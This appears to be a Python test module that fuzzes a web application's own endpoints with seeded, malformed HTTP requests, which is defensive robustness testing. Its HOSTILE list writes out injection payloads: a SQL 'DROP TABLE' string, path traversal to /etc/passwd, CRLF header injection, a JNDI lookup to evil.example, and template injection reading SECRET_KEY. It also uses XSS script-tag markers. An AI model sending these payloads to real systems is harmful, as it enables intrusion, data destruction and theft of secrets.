"""Requests such as nobody sends: any method, address, header and body, with tokens in all of them.

They know the public pages only by their addresses and field names, and mix what is valid with what
was never meant. The same seed makes the same requests.
"""

import io
import json
import random
import sys
from dataclasses import dataclass
from urllib.parse import quote, quote_from_bytes, urlencode

from tests.callers import answers

# A value with this in it was sent by us. The tag shows where one is not made harmless.
TOKEN = "zqx-fuzz"
TAG = f"<script>{TOKEN}"
METHODS = ("GET", "POST", "POST", "POST", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE")
# Of a page that was opened before, in the cookie and in the form.
SECRET = "a" * 32
HOSTILE = (
    b"\0",
    b"\x1b[31m",
    b"\xed\xa0\x80",
    b"\xff\xfe",
    "\u202e".encode(),
    "٢٠٢٥٥٥٠١٠١".encode(),
    b"{{ settings.SECRET_KEY }}{% now 'Y' %}",
    b"'; DROP TABLE intake_person; --",
    b"../../../etc/passwd",
    b"%00%0d%0aSet-Cookie: a=b",
    b"\r\nLocation: https://evil.example/",
    b"${jndi:ldap://evil.example/a}",
    b"-1",
    b"1e999",
    b"99999-12-31",
    b"0001-01-01",
    b"2026-03-10T25:61",
    b"9" * 400,
    b"A" * 20_000,
    b"",
)
HEADERS = (
    "ACCEPT",
    "ACCEPT_CHARSET",
    "ACCEPT_ENCODING",
    "ACCEPT_LANGUAGE",
    "AUTHORIZATION",
    "COOKIE",
    "HOST",
    "HX_REQUEST",
    "HX_TRIGGER",
    "IF_MODIFIED_SINCE",
    "IF_NONE_MATCH",
    "ORIGIN",
    "RANGE",
    "REFERER",
    "TRANSFER_ENCODING",
    "USER_AGENT",
    "WEBHOOK_ID",
    "WEBHOOK_SIGNATURE",
    "WEBHOOK_TIMESTAMP",
    "X_CSRFTOKEN",
    "X_FORWARDED_FOR",
    "X_FORWARDED_HOST",
    "X_FORWARDED_PROTO",
    "X_HTTP_METHOD_OVERRIDE",
    "X_ORIGINAL_URL",
    "X_REQUESTED_WITH",
)
FORM_FIELDS = (
    *answers(),
    *("ticket", "proof", "switch", "token", "sure", "csrfmiddlewaretoken", "_method", "next"),
)
CONTENT_TYPES = (
    "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded; charset=latin-1",
    "application/json",
    "application/xml",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "x" * 300,
    "text/plain",
    "x",
    "",
)


@dataclass
class Sent:
    """One request as the web server hands it on, and whether it was meant to be taken."""

    method: str
    path: bytes
    query: str
    headers: dict
    body: bytes

    def __repr__(self):
        shown = {name: value[:80] for name, value in self.headers.items()}
        return f"{self.method} {self.path[:200]!r}?{self.query[:200]} {shown} {self.body[:600]!r}"

    def environ(self):
        """PEP 3333: bytes as text of Latin-1."""
        return {
            "REQUEST_METHOD": self.method,
            "SCRIPT_NAME": "",
            "PATH_INFO": self.path.decode("latin-1"),
            "QUERY_STRING": self.query,
            "SERVER_NAME": "localhost",
            "SERVER_PORT": "80",
            "SERVER_PROTOCOL": "HTTP/1.1",
            "REMOTE_ADDR": "127.0.0.1",
            "wsgi.version": (1, 0),
            "wsgi.url_scheme": "http",
            "wsgi.input": io.BytesIO(self.body),
            "wsgi.errors": sys.stderr,
            "wsgi.multithread": True,
            "wsgi.multiprocess": False,
            "wsgi.run_once": False,
            **self.headers,
        }


class Fuzzer:
    """``addresses``: the public ones; ``tickets`` and ``tokens``: such as the pages hand out."""

    def __init__(self, seed, *, addresses, tickets, tokens, fields=FORM_FIELDS):
        self.chance = random.Random(seed)  # noqa: S311 - the same seed, the same requests
        self.addresses, self.tickets, self.tokens, self.fields = addresses, tickets, tokens, fields

    def request(self):
        method = self.chance.choice(METHODS)
        if self.chance.random() < 0.01:
            method = self.chance.choice(("FOO", "get", "CONNECT", "PROPFIND", "A" * 200))
        path = self.path()
        body, content_type = b"", None
        if method != "GET" or self.chance.random() < 0.05:
            body, content_type = self.body()
        headers = self.headers()
        if content_type is not None:
            headers["CONTENT_TYPE"] = content_type
        length = str(len(body))
        if self.chance.random() < 0.03:
            length = self.chance.choice(("", str(len(body) + 7), "1" * 30))
        headers["CONTENT_LENGTH"] = length
        return Sent(method, path, self.query(), headers, body)

    # --- its parts

    def path(self):
        path = self.chance.choice(self.addresses).encode()
        kind = self.chance.random()
        if kind < 0.7:
            return path
        if kind < 0.8:
            return path.rstrip(b"/")
        if kind < 0.9:
            at = self.chance.randrange(len(path) + 1)
            return path[:at] + self.part() + path[at:]
        return b"/" + b"/".join(self.chance.choices((*self.parts(), self.part()), k=3))

    def part(self):
        """Not with a token: a path, which holds nothing that was typed, is logged."""
        return self.value().replace(TOKEN.encode(), b"part")

    def parts(self):
        return [part.encode() for address in self.addresses for part in address.split("/") if part]

    def query(self):
        if self.chance.random() < 0.6:
            return ""
        names = ("q", "next", "language", "token", "page", TOKEN, "", "csrfmiddlewaretoken")
        pairs = [
            f"{self.chance.choice(names)}={quote_from_bytes(self.value())}"
            for _pair in range(self.chance.randint(1, 4))
        ]
        query = "&".join(pairs)
        return query if self.chance.random() < 0.9 else query.replace("%", "%%").replace("=", "")

    def headers(self):
        chosen = self.chance.sample(HEADERS, k=self.chance.choice((0, 0, 1, 2, 5)))
        headers = {f"HTTP_{name}": self.header_value(name) for name in chosen}
        if "HTTP_HOST" not in headers or self.chance.random() < 0.8:
            headers["HTTP_HOST"] = "localhost"
        if "HTTP_COOKIE" not in headers:
            headers["HTTP_COOKIE"] = f"csrf={SECRET}"
        if "HTTP_X_FORWARDED_FOR" not in headers:
            headers["HTTP_X_FORWARDED_FOR"] = ".".join(
                str(self.chance.randrange(1, 255)) for _part in range(4)
            )
        return headers

    def header_value(self, name):
        likely = {
            "ACCEPT_LANGUAGE": "es-MX,es;q=0.9",
            "COOKIE": f"csrf={SECRET}; session={TOKEN}; language=es",
            "HX_REQUEST": "true",
            "X_FORWARDED_PROTO": "https",
            "X_FORWARDED_HOST": "evil.example",
            "X_HTTP_METHOD_OVERRIDE": "DELETE",
            "TRANSFER_ENCODING": "chunked",
        }
        if name in likely and self.chance.random() < 0.5:
            return likely[name]
        # A web server lets no line end through.
        text = self.value().replace(b"\r", b"").replace(b"\n", b"").replace(b"\0", b"")
        return text[:4000].decode("latin-1")

    def value(self):
        """Bytes: a token, something hostile, noise, or what a page handed out, whole or bent."""
        kind = self.chance.random()
        if kind < 0.3:
            return f"{TOKEN}\"'>{TAG}".encode()
        if kind < 0.6:
            return self.chance.choice(HOSTILE) + TOKEN.encode()
        if kind < 0.75:
            return self.chance.randbytes(self.chance.randrange(40))
        return self.bent(self.chance.choice((*self.tickets, *self.tokens)))

    def bent(self, text):
        raw = bytearray(text.encode())
        if self.chance.random() < 0.5:
            raw[self.chance.randrange(len(raw))] = self.chance.randrange(256)
        return bytes(raw)

    def body(self):
        kind = self.chance.random()
        if kind < 0.75:
            return self.form(), "application/x-www-form-urlencoded"
        if kind < 0.85:
            return self.multipart(), "multipart/form-data; boundary=cut"
        if kind < 0.92:
            return self.chance.randbytes(self.chance.randrange(2000)), self.content_type()
        return self.document(), "application/json"

    def content_type(self):
        return self.chance.choice((*CONTENT_TYPES, TOKEN))

    def form(self):
        """What a browser would send, with some of it missing, twice, or something else."""
        given = {name: [value.encode()] for name, value in self.sensible().items()}
        for _change in range(self.chance.choice((0, 0, 1, 2, 3, 8))):
            name = self.chance.choice((*self.fields, TOKEN, "", "__proto__", "phone[]"))
            change = self.chance.choice(("other", "other", "gone", "twice"))
            if change == "gone":
                given.pop(name, None)
            elif change == "twice":
                given.setdefault(name, []).append(self.value())
            else:
                given[name] = [self.value()]
        body = urlencode(given, doseq=True).encode()
        return body if self.chance.random() < 0.95 else body[: self.chance.randrange(len(body) + 1)]

    def sensible(self):
        last = f"{self.chance.randrange(100):02d}"
        given = answers(
            phone=f"({self.chance.choice((202, 415, 617))}) 555-01{last}",
            alias=self.chance.choice(("", TOKEN)),
            day=self.chance.choice(("asap", "now", "tomorrow")),
            in_danger=self.chance.choice(("no", "unsure", "yes")),
        )
        given |= {
            "csrfmiddlewaretoken": SECRET,
            "ticket": self.chance.choice(self.tickets),
            "token": self.chance.choice(self.tokens),
        }
        if self.chance.random() < 0.3:
            given["sure"] = "yes"
        if self.chance.random() < 0.1:
            given["switch"] = "es"
        return given

    def multipart(self):
        parts = [
            b"--cut\r\nContent-Disposition: form-data; name="
            + quote(name).encode()
            + self.chance.choice((b"", b'; filename="a.txt"', b'; filename="%s"' % TAG.encode()))
            + b"\r\n\r\n"
            + value.encode()
            + b"\r\n"
            for name, value in self.sensible().items()
        ]
        return b"".join(parts) + self.chance.choice((b"--cut--\r\n", b"--cut", b"", self.value()))

    def document(self):
        text = json.dumps({"type": TOKEN, "data": {"from": "+12025550123", "text": [TAG] * 3}})
        return self.chance.choice((text, text[:-5], "[" * 500, "null", "1e9999")).encode()
